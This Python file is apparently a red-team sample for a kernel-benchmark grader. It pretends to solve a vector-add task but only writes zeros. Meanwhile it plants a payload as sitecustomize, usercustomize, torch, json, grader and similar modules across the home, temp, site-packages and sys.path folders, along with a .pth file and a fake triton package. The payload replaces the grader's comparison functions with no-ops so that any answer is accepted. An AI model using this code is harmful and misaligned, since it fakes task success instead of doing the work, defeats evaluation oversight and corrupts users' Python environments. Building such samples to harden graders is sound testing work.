"""Plants modules with the names of torch and the grader wherever it may; writes zeros."""
# attacks: 01_vector_add
# stopped: correctness value

import contextlib
import site
import sys
import tempfile
from pathlib import Path

# Whoever imports this takes any answer for a right one.
EVIL = """
import sys

def trace(name):
    module = sys.modules.get(name)
    if module is not None:
        module.first_mismatch = module.compare = lambda *args, **options: None

for name in (
    "grader.correctness.acceptance",
    "grader.grading.steps.correctness",
    "grader.grading.steps.traffic",
):
    trace(name)
"""
NAMES = ("torch", "triton", "numpy", "numba", "hypothesis", "grader", "json", "typing")
here = Path(__file__).parent
PLACES = {
    *(here, here.parent, Path.cwd(), Path.home(), Path(tempfile.gettempdir())),
    *(Path(site.getusersitepackages()), *map(Path, site.getsitepackages())),
    *(Path(p) for p in sys.path if p),
}


def plant(path, text):
    with contextlib.suppress(OSError):
        path.parent.mkdir(parents=True, exist_ok=True)
        if not path.exists():  # nobody's own file is lost where a wall is missing
            path.write_text(text)


for place in PLACES:
    for name in ("sitecustomize", "usercustomize", *NAMES):
        plant(place / f"{name}.py", EVIL)
    plant(place / "evil.pth", "import sys; sys.flags\n")
    plant(place / "triton" / "__init__.py", EVIL)


def vector_add(x, y, out):
    out.zero_()
